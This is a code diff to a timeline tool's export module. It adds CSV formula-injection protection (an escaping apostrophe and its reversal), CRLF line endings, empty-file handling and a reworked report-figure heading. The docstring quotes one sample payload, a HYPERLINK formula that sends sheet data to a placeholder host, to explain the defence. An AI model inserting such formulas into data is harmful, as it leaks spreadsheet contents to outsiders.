@@ -1,6 +1,13 @@
 """Exports: the events frame as CSV, JSON, Parquet and TimelineJS JSON; figures as images.
 
 Every file is written atomically (temporary file, then rename).
+
+CSV is opened in spreadsheets, which run a cell beginning with "=", "+", "-" or "@" (or a tab
+or carriage return before one) as a formula: an article sentence such as
+`=HYPERLINK("http://x.example/?"&A1, "see")` would leak the sheet. As OWASP recommends, such a
+cell is written with a leading "'" (shown as text, not run); so is a cell that already begins
+with "'" and then one of those, so that `read_events` can take exactly one "'" off again and
+read our own CSV back as it was. JSON and Parquet keep the text as it is.
 """
 
 from __future__ import annotations
@@ -21,7 +28,7 @@ import pandas as pd
 
 from timeline._io import atomic_write_bytes
 from timeline.roles import summary
-from timeline.schema import DATE_COLUMNS, LIST_COLUMNS, SchemaError, conform
+from timeline.schema import DATE_COLUMNS, LIST_COLUMNS, SchemaError, conform, new_frame
 
 if TYPE_CHECKING:
     import plotly.graph_objects as go
@@ -37,9 +44,11 @@ __all__ = [
     "figure_bytes",
     "find_chromium",
     "headline",
+    "neutralise_cell",
     "pdf_with_title",
     "read_events",
     "report_figure",
+    "restore_cell",
     "source_titles",
     "timelinejs_json",
     "write_events",
@@ -74,6 +83,20 @@ _CHROMIUM_CANDIDATES = (
 )
 
 
+# A cell a spreadsheet would run as a formula (after any quotes we added before).
+_FORMULA = re.compile(r"'*[=+\-@\t\r]")
+
+
+def neutralise_cell(text: str) -> str:
+    """A CSV cell made safe to open in a spreadsheet (a leading "'" before a formula)."""
+    return "'" + text if _FORMULA.match(text) else text
+
+
+def restore_cell(text: str) -> str:
+    """The cell as it was before `neutralise_cell`."""
+    return text[1:] if text.startswith("'") and _FORMULA.match(text, 1) else text
+
+
 def _format_of(path: str | Path) -> str:
     suffix = Path(path).suffix.lower().lstrip(".")
     if suffix not in EVENT_FORMATS:
@@ -97,7 +120,12 @@ def events_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
             flat[col] = flat[col].map(_joined)
         for col in DATE_COLUMNS:
             flat[col] = flat[col].dt.strftime("%Y-%m-%d")
-        return flat.to_csv(index=False).encode("utf-8")
+        for col in flat.columns:
+            if col not in DATE_COLUMNS and not pd.api.types.is_numeric_dtype(flat[col]):
+                flat[col] = flat[col].map(neutralise_cell, na_action="ignore")
+        # Lines end in CRLF (RFC 4180): a cell holding a bare CR or LF is then quoted, so it
+        # cannot start a new row (whose first cell a spreadsheet would run).
+        return flat.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
     if fmt == "json":
         records = []
         for row in frame.to_dict(orient="records"):
@@ -137,8 +165,11 @@ def read_events(path: str | Path) -> pd.DataFrame:
             frame = pd.read_parquet(path)
         elif fmt == "csv":
             frame = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
+            frame = frame.apply(lambda col: col.map(restore_cell, na_action="ignore"))
         else:
             frame = pd.read_json(path, orient="records", dtype=False)
+        if frame.empty and not len(frame.columns):
+            return new_frame()  # "[]": the events file of a run that found none
     except (OSError, ValueError) as exc:
         raise SchemaError(f"{path}: cannot read events: {exc}") from exc
     return conform(frame)
@@ -307,6 +338,7 @@ def _printable(fig: go.Figure) -> dict[str, Any]:
         for control in ("rangeslider", "rangeselector"):
             if control in xaxis:
                 xaxis[control] = {"visible": False}
+    spec.get("layout", {}).pop("updatemenus", None)  # buttons: screen only
     return spec
 
 
@@ -431,7 +463,7 @@ def _image_bytes(
 
 # --- Report-ready figures -------------------------------------------------------------
 
-_FOOTER_PX = 64
+_HEADING_PX = 64  # the title and the sources line above the figure
 _SOURCES_SHOWN = 6
 
 
@@ -465,9 +497,13 @@ def report_figure(
     sources: list[str] | tuple[str, ...] = (),
     exported: dt.date | None = None,
 ) -> go.Figure:
-    """A copy of `fig` ready for a report: `title` on top (say what is shown and the
-    filters in words), and under the plot the sources and the date of export. Screen-only
-    hints are left out when it is turned into an image (`figure_bytes`)."""
+    """A copy of `fig` ready for a report: a heading block on top with `title` (say what is
+    shown and the filters in words) and, under it, the sources and the date of export.
+    Screen-only hints are left out when it is turned into an image (`figure_bytes`).
+
+    The block is added above the figure's own top margin (which may hold notes of its
+    own), so nothing moves into it.
+    """
     import plotly.graph_objects as go
 
     out = go.Figure(fig)
@@ -475,31 +511,27 @@ def report_figure(
     shown = [_escape(t if len(t) <= 90 else t[:89] + "…") for t in sources[:_SOURCES_SHOWN]]
     more = len(sources) - len(shown)
     line = "; ".join(shown) + (f"; and {more:,} more" if more > 0 else "")
-    footer = (
-        f"Source{'s' if len(sources) > 1 else ''}: {line}<br>" if sources else ""
-    ) + f"Exported {exported.day} {exported:%b %Y} with timeline"
+    about = (
+        f"Source{'s' if len(sources) > 1 else ''}: {line} · " if sources else ""
+    ) + f"exported {exported.day} {exported:%b %Y} with timeline"
     margin = out.layout.margin
-    top = max(int(margin.t or 0), 80)
-    bottom = int(margin.b or 0) + _FOOTER_PX
-    height = int(out.layout.height or 500) + _FOOTER_PX + max(0, top - int(margin.t or 0))
-    plot_px = max(height - top - bottom, 1)
+    # Any title the figure had is replaced: its space is the old margin's.
+    top = int(margin.t or 0) + _HEADING_PX
     out.update_layout(
-        title={"text": _escape(title), "x": 0.01, "xanchor": "left", "font": {"size": 18}},
-        height=height,
-        margin={"t": top, "b": bottom},
-    )
-    out.add_annotation(
-        text=footer,
-        xref="paper",
-        yref="paper",
-        x=0,
-        # From the plot's bottom edge down into the bottom margin, in plot-height units.
-        y=-(bottom - 6) / plot_px,
-        xanchor="left",
-        yanchor="bottom",
-        align="left",
-        showarrow=False,
-        font={"size": 10, "color": "#555555"},
+        title={
+            "text": _escape(title),
+            "subtitle": {"text": about, "font": {"size": 11, "color": "#555555"}},
+            "x": 0.01,
+            "xanchor": "left",
+            "xref": "container",
+            "y": 1,
+            "yanchor": "top",
+            "yref": "container",
+            "pad": {"t": 12},
+            "font": {"size": 18},
+        },
+        height=int(out.layout.height or 500) + _HEADING_PX,
+        margin={"t": top},
     )
     return out
 
